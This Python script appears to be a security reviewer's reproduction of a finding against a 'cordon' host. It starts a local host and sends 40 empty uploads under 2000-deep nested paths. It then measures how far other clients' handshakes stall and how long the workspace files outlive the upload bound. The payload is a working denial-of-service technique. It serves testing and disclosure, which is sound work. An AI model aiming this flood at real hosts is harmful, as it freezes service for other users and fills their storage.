#!/usr/bin/env python3
"""Round 6b finding 1: one authenticated client's uploads of deep paths (0 bytes each) freeze the
whole `cordon host` (every other client's hello stalls for seconds), keep being processed long
after `handshake.uploadPhaseMs` and after the client has gone, and fill stateDir with inodes that
`ceilings.uploadBytes` never counts.  Usage: python3 upload-dirs-stall-host.py [path/to/cordon]
Exit status 1 = the break reproduces (a hello took > 1 s, or the workspace outlived the bound)."""
import os, sys, json, subprocess, tempfile, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rc import *

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), '../../../..'))
CORDON = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, 'target/release/cordon')
tmp = tempfile.mkdtemp(prefix='atk22b-f1-')
os.mkdir(tmp + '/run', 0o700)
SOCK = tmp + '/run/host.sock'
json.dump({'listen': {'unix': SOCK}, 'stateDir': tmp + '/state', 'programs': {'sh': '/bin/sh'},
           'handshake': {'uploadPhaseMs': 5000}}, open(tmp + '/host.json', 'w'))
host = subprocess.Popen([CORDON, 'host', '--config', tmp + '/host.json'], stderr=subprocess.DEVNULL)
try:
    for _ in range(100):
        if os.path.exists(SOCK): break
        time.sleep(0.1)

    def hello_ms():
        t = time.time()
        try:
            s = unix(SOCK); hello(s); s.close(); return round((time.time() - t) * 1000)
        except Exception as e:
            return 'no welcome in %d ms (%s)' % ((time.time() - t) * 1000, type(e).__name__)

    print('idle hello latency ms:', [hello_ms() for _ in range(5)])
    # The attack: 40 uploads of an empty file under 2000 nested directories (4 KiB path, 0 bytes),
    # sent at once, then the client goes away.
    s = unix(SOCK); hello(s)
    blob = b''.join(frame(UPLOAD, {'path': '%d/' % i + '/'.join(['d'] * 2000) + '/f', 'data': ''})
                    for i in range(40))
    threading.Thread(target=lambda: s.sendall(blob), daemon=True).start()
    t0 = time.time()
    time.sleep(0.5)
    lat = []
    for _ in range(6):
        lat.append(hello_ms()); time.sleep(0.2)
    s.close()
    print('hello latency ms while the host processes them:', lat)
    ws = tmp + '/state/workspaces'
    peak = 0
    while time.time() - t0 < 120:
        n = int(subprocess.run('find %s -mindepth 1 | wc -l' % ws, shell=True, capture_output=True, text=True).stdout)
        peak = max(peak, n)
        if n == 0: break
        time.sleep(0.5)
    gone = time.time() - t0
    print('client sent at t=0 and closed after the probes; upload phase bound 5 s; workspace entries peak %d, removed after %.1f s'
          % (peak, gone))
    broke = any(not isinstance(x, int) or x > 1000 for x in lat) or gone > 10
    print('BREAK REPRODUCED' if broke else 'not reproduced')
    sys.exit(1 if broke else 0)
finally:
    host.terminate(); host.wait()
    subprocess.run(['rm', '-rf', tmp])
